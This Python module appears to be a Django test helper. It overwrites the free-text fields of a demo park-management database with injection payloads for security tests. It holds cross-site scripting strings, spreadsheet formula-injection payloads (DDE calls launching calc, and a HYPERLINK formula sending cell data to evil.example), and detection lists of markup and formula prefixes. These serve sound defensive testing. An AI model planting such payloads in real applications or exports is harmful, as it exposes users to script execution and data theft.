"""Hostile records for the security tests: the demo, with every piece of user text replaced by a payload.

`poison(payload)` writes the payload (plus the row's id, for unique fields) into every free-text field of every
record of the project's apps and into the users' names; `fill_gaps()` first adds a record of each type the demo
lacks, so every page has something to show.
"""

from __future__ import annotations

import datetime
from decimal import Decimal

from django.apps import apps
from django.contrib.auth import get_user_model
from django.core.validators import RegexValidator
from django.db import models
from django.db.models import CharField, Value
from django.db.models.functions import Cast, Concat

APPS = ("enterprises", "projects", "indicators", "parkadmin")

IMG = "<img src=x onerror=alert(1)>"
SCRIPT = "</script><script>alert(1)</script>"
# For fields too short for the others (an indicator's unit has 16 characters).
SHORT = "<svg onload=1>"
HTML_PAYLOADS = {"img": IMG, "script": SCRIPT}
# What must never reach a page unescaped.
MARKUP = ("<img src=x", "<script>alert", "</script><script>", "<svg onload")

# A spreadsheet runs text starting with these as a formula (or a DDE call).
FORMULA_PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\ufeff=1+1",
    "＝1+1",
    " @SUM(1+1)",
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00", "＝", "＋", "－", "＠")

# Text fields that are really codes or references (used in URLs and lookups): left alone.
NOT_FREE_TEXT = {"code", "kind", "report", "park_code", "reconciles", "credit_code", "color"}


def text_fields(model) -> list[models.Field]:
    fields = []
    for field in model._meta.concrete_fields:
        if not isinstance(field, models.CharField | models.TextField) or field.choices or field.primary_key:
            continue
        if field.name in NOT_FREE_TEXT or any(isinstance(v, RegexValidator) for v in field.validators):
            continue
        fields.append(field)
    return fields


def project_models() -> list[type[models.Model]]:
    return [
        model
        for app in APPS
        for model in apps.get_app_config(app).get_models()
        if not model.__name__.startswith("Historical")
    ]


def fill_gaps() -> None:
    """A record of each type the demo has none of, tied to the demo's enterprises and projects."""
    from enterprises.models import Enterprise, Incubator
    from indicators.choices import ValueStatus
    from indicators.models import Indicator
    from parkadmin.models import ImportRecord
    from projects.models import Project
    from tests import factories

    user = get_user_model().objects.get(username="demo-staff")
    enterprise = Enterprise.objects.order_by("pk").first()
    project = Project.objects.order_by("pk").first()
    factories.QualificationFactory(enterprise=enterprise, issued_on=datetime.date(2019, 1, 1), expires_on=None)
    factories.ResearchPlatformFactory(enterprise=enterprise)
    for year in (2018, 2019):
        factories.EnterpriseYearFactory(enterprise=enterprise, year=year, industrial_output=Decimal(900 + year))
    factories.IncubationFactory(enterprise=enterprise, incubator=Incubator.objects.first())
    factories.ServiceRequestFactory(enterprise=enterprise, assignee=user, raised_on=datetime.date(2020, 1, 5))
    factories.ServiceRequestFactory(
        enterprise=enterprise,
        status="resolved",
        resolution="已解决",
        resolved_on=datetime.date(2020, 2, 1),
        raised_on=datetime.date(2020, 1, 5),
    )
    factories.FundArrivalFactory(project=project, arrived_on=datetime.date(2020, 3, 1))
    from projects.models import ProjectUpdate

    ProjectUpdate.objects.create(project=project, on=datetime.date(2020, 3, 2), text="进展", author=user)
    indicator = Indicator.objects.filter(kind="reported").order_by("pk").first()
    factories.IndicatorValueFactory(
        indicator=indicator, year=2021, status=ValueStatus.SUBMITTED, entered_by=user, explanation="说明"
    )
    ImportRecord.objects.create(kind="enterprises", file_name="企业.xlsx", user=user, created=1)
    try:
        from reports.models import ReportExport
    except ImportError:  # the reports' record is optional here
        return
    ReportExport.objects.create(year=2019, format="xlsx", user=user, file_name="report.xlsx")


def poison(payload: str | tuple[str, ...]) -> None:
    """Every free-text field of every record, and every user's name, holds a payload (cycled over the fields
    when several are given); then each record is saved once more so its history holds the payload too."""
    payloads = (payload,) if isinstance(payload, str) else payload
    turn = 0
    for model in project_models():
        updates = {}
        for field in text_fields(model):
            text = payloads[turn % len(payloads)]
            turn += 1
            if field.max_length is not None and field.max_length < len(text) + 8:
                text = SHORT if field.max_length >= len(SHORT) + 4 and text in HTML_PAYLOADS.values() else None
            if text is None:
                continue
            updates[field.name] = Concat(Value(text), Cast("pk", CharField()), output_field=CharField())
        if updates:
            model._default_manager.update(**updates)
    get_user_model().objects.update(
        first_name=Concat(Value(payloads[0]), Cast("pk", CharField()), output_field=CharField()),
        last_name=payloads[-1],
    )
    for model in project_models():
        if hasattr(model, "history"):
            for record in model._default_manager.all()[:3]:
                record.save()
